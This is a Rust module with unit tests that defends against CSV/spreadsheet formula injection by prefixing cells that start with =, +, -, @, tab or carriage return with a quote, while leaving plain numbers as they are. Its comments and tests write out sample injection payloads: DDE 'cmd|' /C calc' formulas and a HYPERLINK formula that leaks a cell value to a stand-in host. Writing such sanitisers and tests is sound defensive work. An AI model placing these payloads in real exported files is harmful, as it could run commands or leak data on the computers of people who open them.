//! Cells of the CSV (and any XLSX) files the program writes, made safe to
//! open in a spreadsheet.
//!
//! A cell that starts with `=`, `+`, `-` or `@` is read by Excel, LibreOffice
//! and Google Sheets as a formula (`=HYPERLINK(...)`, `@SUM(...)`,
//! `-2+3+cmd|' /C calc'!A0`); a leading tab or carriage return can hide such
//! a start. Any text that came from outside (a report, a file row, a place
//! name) may be such a cell. Following OWASP's "CSV Injection" guidance, a
//! cell starting with one of those characters is written with a single
//! quote (`'`) in front, which spreadsheets read as "this is text" (and show
//! without the quote in most of them); quoting of separators and quotes is
//! left to the CSV writer.
//!
//! One exception, also from that guidance: a cell that is a plain number
//! (`-5.2`, `+23672000002`, `-0.5`) is written as it is. It cannot hold a
//! formula, and the longitudes, negative scores and international phone
//! numbers the exports carry must stay numbers for spreadsheets and the
//! bulk-SMS tools that read them.
//!
//! This lives in `vitalcore-framework` because every crate that writes CSV
//! depends on it (the importers' rejects files, the intake outbox export and
//! the CLI's tables), and none of them on each other.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula (OWASP's
/// list): `=`, `+`, `-`, `@`, tab and carriage return.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `value` as a spreadsheet cell: with a `'` in front when it starts with
/// one of [`FORMULA_STARTS`] and is not a plain number, else unchanged.
pub fn spreadsheet_cell(value: &str) -> Cow<'_, str> {
    match value.chars().next() {
        Some(c) if FORMULA_STARTS.contains(&c) && !is_plain_number(value) => Cow::Owned(format!("'{value}")),
        _ => Cow::Borrowed(value),
    }
}

/// A CSV record of [`spreadsheet_cell`]s, as `csv::Writer::write_record` takes it.
pub fn spreadsheet_record<'a, I>(cells: I) -> impl Iterator<Item = Cow<'a, [u8]>>
where
    I: IntoIterator<Item = &'a str>,
{
    cells.into_iter().map(|c| match spreadsheet_cell(c) {
        Cow::Borrowed(s) => Cow::Borrowed(s.as_bytes()),
        Cow::Owned(s) => Cow::Owned(s.into_bytes()),
    })
}

/// A decimal number and nothing else: an optional sign, digits, and at most
/// one decimal point followed by digits (`-5.2`, `+23672000002`, `42`,
/// `-.5`). No spaces, no exponent, no second sign: `-2+3` is not one.
pub fn is_plain_number(s: &str) -> bool {
    let body = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (whole, fraction) = match body.split_once('.') {
        Some((w, f)) => (w, Some(f)),
        None => (body, None),
    };
    let digits = |t: &str| t.bytes().all(|b| b.is_ascii_digit());
    let whole_ok = digits(whole);
    match fraction {
        None => !whole.is_empty() && whole_ok,
        Some(f) => whole_ok && !f.is_empty() && digits(f),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_get_a_quote() {
        for (raw, safe) in [
            ("=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")"),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("-", "'-"),
            ("+", "'+"),
            ("- patrol sent", "'- patrol sent"),
            ("+236 72 00 00 01", "'+236 72 00 00 01"),
            ("-1e5", "'-1e5"),
            ("-.", "'-."),
        ] {
            assert_eq!(spreadsheet_cell(raw), safe, "{raw:?}");
        }
    }

    #[test]
    fn numbers_and_ordinary_text_stay_as_they_are() {
        for raw in
            ["-5.2", "+23672000002", "42", "-0.5", "-.5", "", "Ouham", "CF32", "2024-05-01", "a=b", "5 = 5", "3.14"]
        {
            assert_eq!(spreadsheet_cell(raw), raw, "{raw:?}");
            assert!(matches!(spreadsheet_cell(raw), Cow::Borrowed(_)));
        }
    }

    #[test]
    fn plain_numbers() {
        for yes in ["0", "-5.2", "+23672000002", "-.5", "1.0"] {
            assert!(is_plain_number(yes), "{yes}");
        }
        for no in ["", "-", "+", ".", "-2+3", "1e5", "1.2.3", "- 5", "+236 72", "12.", "0x1F"] {
            assert!(!is_plain_number(no), "{no}");
        }
    }
}
